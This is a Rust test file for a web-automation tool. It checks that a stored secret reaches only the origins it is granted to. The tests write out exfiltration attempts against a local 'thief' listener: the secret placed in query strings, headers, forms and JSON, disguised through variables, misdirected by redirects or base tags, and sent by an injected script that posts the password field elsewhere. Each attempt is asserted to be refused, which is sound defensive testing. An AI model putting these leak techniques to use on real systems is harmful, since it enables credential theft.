//! E4: a secret is sent to the origins of its grant, and nowhere else.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use pieme::config::{Config, secret_use};
use pieme::model::{Page, TraceLine};
use pieme::page::Tree;
use pieme::robot::{self, Arrival, LinksError, Observer, PageRows, RecordLink, WalkInput};
use pieme::tasks;

use super::super::promises::{again, role};
use super::listener::{Answer, Listener};
use super::secrets::{VALUE, grant, run, sentence, write_secret, write_task};
use crate::stage::{Said, Stage};

const FORM: &str =
    "<form method=post action='/in'><input name=user><input type=password name=pw><button>Log in</button>";

/// A stage with a secret `shop` that the task `shop` may send to these origins.
fn stage(origins: &[String]) -> Stage {
    with_secret(Stage::new(), origins)
}

fn with_secret(stage: Stage, origins: &[String]) -> Stage {
    write_secret(&stage, "shop");
    grant(&stage, "shop", "shop", origins);
    origins.iter().for_each(|origin| stage.grant_private(origin));
    stage
}

#[test]
fn a_script_cannot_send_a_granted_secret_to_another_origin() {
    let (shop, thief) = (Listener::page("<p>hello</p>"), Listener::page("<p>thanks</p>"));
    let (here, there) = (shop.origin(), thief.origin());
    let stage = stage(std::slice::from_ref(&here));
    stage.grant_private(&there);
    stage.grant_private(&format!("http://localhost:{}", shop.port));
    for steps in [
        format!("get = {{ url = '{there}/', headers = {{ x-key = '${{secret:shop}}' }} }}"),
        format!("get = '{there}/?k=${{secret:shop}}'"),
        format!("get = {{ url = '{there}/', query = {{ k = '${{secret:shop}}' }} }}"),
        format!("post = {{ url = '{there}/', form = {{ k = '${{secret:shop}}' }} }}"),
        format!("post = {{ url = '{there}/', json = {{ k = ['${{secret:shop}}'] }} }}"),
        format!("login = {{ basic = true, url = '{there}/', user = 'me', password = '${{secret:shop}}' }}"),
        // By way of variables, as it is and in disguise.
        format!("set = {{ k = '${{secret:shop}}' }}\n[[step]]\nget = '{there}/?k=${{k}}'"),
        format!(
            "set = {{ k = '${{secret:shop}}' }}\n[[step]]\n\
             substitute = {{ variable = 'k', regex = '(.)', with = '$1-', into = 'j' }}\n[[step]]\n\
             get = '{there}/?k=${{j}}'"
        ),
        format!(
            "set = {{ k = '${{secret:shop}}' }}\n[[step]]\n\
             match = {{ variable = 'k', regex = '(?P<j>....)' }}\n[[step]]\nget = '{there}/?k=${{j}}'"
        ),
        format!("for_each = {{ as = 'k', in = ['${{secret:shop}}'], steps = [{{ get = '{there}/?k=${{k}}' }}] }}"),
        // The port is part of the origin, and so is the spelling of the host.
        format!("get = 'http://localhost:{}/?k=${{secret:shop}}'", shop.port),
    ] {
        let robot = format!("[[step]]\nget = '{here}/?k=${{secret:shop}}'\n[[step]]\n{steps}\n");
        write_task(&stage, "shop", &robot, "");
        let before = shop.heard().len();
        let verdict = run(&stage, "shop");
        assert_eq!(verdict["outcome"], "failed", "{steps}: {verdict}");
        assert!(sentence(&verdict).contains("the secret `shop`"), "{steps}: {verdict}");
        assert!(!verdict.to_string().contains(VALUE), "{steps}: {verdict}");
        assert!(shop.heard()[before].contains(VALUE), "it is sent where the grant says");
        assert_eq!(thief.all(), "", "{steps}");
    }
}

#[test]
fn a_site_cannot_lead_a_secret_to_another_origin() {
    let thief = Listener::page(FORM);
    let there = thief.origin();
    let base = format!("<base href='{there}/'><ul><li>a</li></ul>");
    let elsewhere = FORM.replace("/in", &format!("{there}/in"));
    let to = there.clone();
    let shop = Listener::start(move |path| match path {
        "/base" => Answer::page(&base),
        "/elsewhere" => Answer::page(&elsewhere),
        "/form" => Answer::page(FORM),
        "/moved" | "/in" => Answer::redirect("307 Moved", &to),
        _ => Answer::page("<ul><li>a</li><li>b</li></ul>"),
    });
    let here = shop.origin();
    let stage = stage(std::slice::from_ref(&here));
    stage.grant_private(&there);
    let login = "login = { user = 'me', password = '${secret:shop}' }";
    for (steps, is_refused) in [
        // A relative address is the script's, whatever the page says.
        (
            format!(
                "get = '{here}/base'\n[[step]]\nget = {{ url = '/next', headers = {{ x-key = '${{secret:shop}}' }} }}"
            ),
            false,
        ),
        (
            format!(
                "get = '{here}/base'\n[[step]]\nlogin = {{ url = '/form', user = 'me', password = '${{secret:shop}}' }}"
            ),
            true,
        ),
        (format!("get = {{ url = '{here}/moved', headers = {{ x-key = '${{secret:shop}}' }} }}"), false),
        (format!("get = '{here}/elsewhere'\n[[step]]\n{login}"), true),
        // The page with the form is elsewhere.
        (format!("get = '{here}/moved'\n[[step]]\n{login}"), true),
        // The form's answer leads elsewhere, with the form.
        (format!("get = '{here}/form'\n[[step]]\n{login}"), true),
    ] {
        let robot = format!("[[step]]\n{steps}\n");
        let hosts = "allow_hosts = ['127.0.0.1', 'localhost']\n";
        write_task(&stage, "shop", &robot, "");
        let task = stage.read("tasks/shop/task.toml");
        stage.write("tasks/shop/task.toml", &format!("{task}{hosts}"));
        let verdict = run(&stage, "shop");
        assert!(!thief.all().contains(VALUE), "{steps}: {}", thief.all());
        assert!(!thief.all().contains("x-key"), "{steps}: {}", thief.all());
        assert_eq!(verdict["cause"] == "network", is_refused, "{steps}: {verdict}");
    }
    assert!(shop.heard().iter().any(|it| it.starts_with("GET /next ") && it.contains(VALUE)), "{}", shop.all());
}

const HTTPS_TEST: &str = "trust::origins::an_https_log_in_that_is_redirected_to_http_never_fills_the_form";
const CONFIG: &str = "PIEME_TEST_CONFIG";

/// Walks the robot in a process that trusts this certificate; a run's process cannot be told to.
fn walk_trusting(stage: &Stage, authority: &str) -> Said {
    stage.write("authority.pem", authority);
    again(HTTPS_TEST, "walk")
        .env("SSL_CERT_FILE", stage.path("authority.pem"))
        .env(CONFIG, stage.path("config.toml"))
        .output()
        .expect("this program starts")
        .into()
}

/// The robot of the task `shop`, with what config.toml grants to it.
#[allow(clippy::print_stdout, reason = "the test that started this process reads it")]
fn walk_here() {
    let config = Config::find(std::env::var_os(CONFIG).map(PathBuf::from).as_deref()).expect("a good config");
    let folder = tasks::read(&config.tasks.join("shop")).expect("a good folder");
    let order = WalkInput {
        task: &folder.task,
        script: &folder.script,
        addresses: &config.grants.current().addresses_of(&folder.name),
        secrets: &secret_use::granted(&config, &folder).expect("a granted secret"),
        files: &BTreeMap::new(),
        cookies: None,
        deadline: Instant::now() + Duration::from_secs(30),
        browser: None,
    };
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    let walk = runtime.block_on(robot::walk(order, &mut TracePrinter));
    println!("{}", walk.result.expect_err("it is refused").sentence);
}

struct TracePrinter;

impl Observer for TracePrinter {
    fn page(&mut self, _: &Page, _: &Tree, _: &[(String, String)], _: Arrival) -> PageRows {
        PageRows::default()
    }

    fn links(&mut self, _: Option<&str>) -> Result<Vec<RecordLink>, LinksError> {
        Ok(Vec::new())
    }

    fn detail(&mut self, _: usize, _: &Page, _: &Tree) {}

    fn save(&mut self, _: &Page, _: &str) {}

    #[allow(clippy::print_stdout, reason = "the test that started this process reads it")]
    fn trace(&mut self, line: TraceLine) {
        println!("{}", line.text);
    }
}

#[test]
fn an_https_log_in_that_is_redirected_to_http_never_fills_the_form() {
    if role().is_some() {
        return walk_here();
    }
    // On another port, since a port speaks either; a man in the middle would answer at port 80 of the same host.
    let plain = Listener::page(FORM);
    let to = format!("http://localhost:{}/login", plain.port);
    let (safe, authority) = Listener::start_within_tls(move |_| Answer::redirect("302 Found", &to));
    let there = format!("https://localhost:{}", safe.port);
    let stage = stage(std::slice::from_ref(&there));
    stage.grant_private(&format!("http://localhost:{}", plain.port));
    let robot = format!("[[step]]\nlogin = {{ url = '{there}/login', user = 'me', password = '${{secret:shop}}' }}\n");
    write_task(&stage, "shop", &robot, "");
    let said = walk_trusting(&stage, &authority);
    assert_eq!(safe.heard().len(), 1, "the log-in page was asked for: {}{}", said.stdout, said.stderr);
    let heard = plain.heard();
    assert!(heard.iter().all(|it| it.starts_with("GET ") && !it.contains(VALUE)), "{heard:?}");
    assert!(said.stdout.contains("the secret `shop`") && !said.stdout.contains(VALUE), "{}", said.stdout);
}

#[test]
fn a_browser_fills_a_secret_only_into_a_page_of_its_origin() {
    let thief = Listener::page(FORM);
    let there = thief.origin();
    let elsewhere = FORM.replace("/in", &format!("{there}/in"));
    // The page changes where its form goes when it is sent, and sends the value by itself, too.
    let sly = format!(
        "{FORM}</form><script>document.forms[0].onsubmit = () => {{\
         fetch('{there}/fetch', {{ method: 'POST', mode: 'no-cors', body: document.forms[0].pw.value }});\
         document.forms[0].action = '{there}/in' }}</script>"
    );
    let to = there.clone();
    let shop = Listener::start(move |path| match path {
        "/elsewhere" => Answer::page(&elsewhere),
        "/sly" => Answer::page(&sly),
        "/moved" => Answer::redirect("302 Found", &to),
        _ => Answer::page("<ul><li>a</li><li>b</li></ul>"),
    });
    let here = shop.origin();
    let stage = with_secret(Stage::unprivileged(), std::slice::from_ref(&here));
    stage.grant_private(&there);
    for path in ["/elsewhere", "/sly", "/moved"] {
        let robot = format!(
            "[[step]]\nget = '{here}{path}'\n[[step]]\nlogin = {{ user = 'me', password = '${{secret:shop}}' }}\n"
        );
        write_task(&stage, "shop", &robot, "");
        let task = stage.read("tasks/shop/task.toml");
        stage.write("tasks/shop/task.toml", &format!("{task}engine = 'browser'\nallow_hosts = ['127.0.0.1']\n"));
        let verdict = run(&stage, "shop");
        assert!(!thief.all().contains(VALUE), "{path}: {}", thief.all());
        assert_eq!(verdict["outcome"], "failed", "{path}: {verdict}");
        assert!(sentence(&verdict).contains("the secret `shop`"), "{path}: {verdict}");
    }
}
